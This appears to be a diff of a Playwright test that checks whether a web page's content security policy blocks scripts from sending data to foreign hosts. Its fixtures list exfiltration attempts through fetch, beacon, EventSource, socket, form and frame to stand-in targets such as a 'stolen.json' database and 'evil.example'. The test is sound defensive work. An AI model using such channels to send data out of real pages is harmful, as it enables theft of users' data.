@@ -6,7 +6,7 @@ interface Attempt {
   readonly by: "fetch" | "beacon" | "socket" | "events" | "form" | "frame";
 }
 
-/** Whether the page's policy, and not the network of this machine, stopped an attempt to send something away. */
+/** Whether the content policy of the page, and not the network of this machine, blocked an attempt to send data. */
 function isRefused(page: Page, attempt: Attempt): Promise<boolean> {
   return page.evaluate(async ({ url, by }) => {
     const refused = new Promise<boolean>((resolve) => {
@@ -16,7 +16,7 @@ function isRefused(page: Page, attempt: Attempt): Promise<boolean> {
       if (by === "events") new EventSource(url).addEventListener("error", ended);
       if (by === "beacon") {
         navigator.sendBeacon(url, "everything");
-        // A beacon reports nothing; whatever is sent after it is judged after it.
+        // A beacon reports no outcome, and later requests are checked after it.
         void fetch("/robots.txt").then(ended, ended);
       }
       if (by === "socket") {
@@ -44,7 +44,7 @@ function isRefused(page: Page, attempt: Attempt): Promise<boolean> {
   }, attempt);
 }
 
-const OTHERS: readonly Attempt[] = [
+const FOREIGN_ATTEMPTS: readonly Attempt[] = [
   { by: "fetch", url: "https://another-default-rtdb.firebaseio.com/stolen.json" },
   { by: "beacon", url: "https://another-default-rtdb.firebaseio.com/stolen.json" },
   { by: "events", url: "https://another-default-rtdb.firebaseio.com/stolen.json" },
@@ -61,20 +61,20 @@ const OTHERS: readonly Attempt[] = [
   { by: "form", url: "https://evil.example/" },
 ];
 
-const OURS: readonly Attempt[] = [
+const OWN_ATTEMPTS: readonly Attempt[] = [
   { by: "fetch", url: "https://identitytoolkit.googleapis.com/v1/accounts:lookup" },
   { by: "fetch", url: "https://securetoken.googleapis.com/v1/token" },
   { by: "fetch", url: "https://firebasestorage.googleapis.com/v0/b/ours/o" },
   { by: "socket", url: "wss://ours-default-rtdb.firebaseio.com/.ws?v=5" },
-  // Where the database service sends its clients on to.
+  // The database service redirects its clients to hosts such as this one.
   { by: "socket", url: "wss://s-usc1c-nss-200.firebaseio.com/.ws?v=5&ns=ours-default-rtdb" },
 ];
 
 for (const path of ["/login", "/a/b/c"])
-  test(`a script on ${path} can send nothing to another project or anybody else`, async ({ page, expectConsole }) => {
+  test(`a script on ${path} cannot send data to another project or host`, async ({ page, expectConsole }) => {
     expectConsole(/Content Security Policy|Refused to|net::ERR|404/);
     await page.goto(path);
-    for (const attempt of OTHERS) expect([attempt, await isRefused(page, attempt)]).toEqual([attempt, true]);
-    // Nothing of the outside is there on this machine: what is let through fails in the network.
-    for (const attempt of OURS) expect([attempt, await isRefused(page, attempt)]).toEqual([attempt, false]);
+    for (const attempt of FOREIGN_ATTEMPTS) expect([attempt, await isRefused(page, attempt)]).toEqual([attempt, true]);
+    // The test machine has no internet: allowed requests fail in the network.
+    for (const attempt of OWN_ATTEMPTS) expect([attempt, await isRefused(page, attempt)]).toEqual([attempt, false]);
   });
